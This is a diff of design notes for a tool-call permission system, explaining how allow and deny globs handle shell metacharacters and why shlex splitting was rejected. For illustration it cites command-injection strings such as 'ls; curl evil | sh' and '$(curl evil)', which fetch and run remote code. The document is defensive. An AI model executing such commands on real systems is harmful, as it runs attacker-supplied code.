@@ -11,9 +11,9 @@ a backquote, ``$(``, a redirection or a new line (``ls; curl evil | sh`` matches
 So in a rule that lets a call through (allow, require_approval) a ``when`` glob matches a
 value only if every metacharacter in the value is written in the pattern itself; a deny
 rule matches as a plain glob, so that it catches more, never less. Rejected: matching the
-globs against the value split by ``shlex`` (the argv). It knows quoting but not shells:
-``$(...)`` and backquotes stay inside one word, and every rule would have to be read as
-a pattern over a list, which is not what users write.
+globs against the value split by ``shlex`` (the argv). It knows quoting, not shells:
+``$(curl evil)`` and backquotes are mere words to it, and every rule would have to be
+read as a pattern over a list, which is not what users write.
 
 An approver's decision does not outweigh a deny rule: ``denial`` finds the deny rule the
 arguments a person approved (maybe edited) match, whatever its place in the list.
